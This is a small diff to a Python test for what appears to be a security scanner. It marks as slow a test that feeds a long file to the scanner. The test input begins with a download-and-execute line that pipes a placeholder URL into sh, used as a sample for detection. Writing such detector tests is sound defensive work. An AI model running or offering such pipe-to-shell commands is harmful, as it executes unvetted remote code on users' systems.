@@ -80,6 +80,7 @@ def test_programs_and_unreadable_files_are_named_and_pictures_are_not(tmp_path: 
     assert all(path != "logo.png" for path, _ in found)
 
 
+@pytest.mark.slow
 def test_a_long_file_is_scanned_in_part_and_the_rest_is_named(tmp_path: Path) -> None:
     text = "curl -s https://x.example/i | sh\n" + "plain words\n" * 40_000
     found = {(one.kind, one.severity) for one in scan(tmp_path, text).findings}
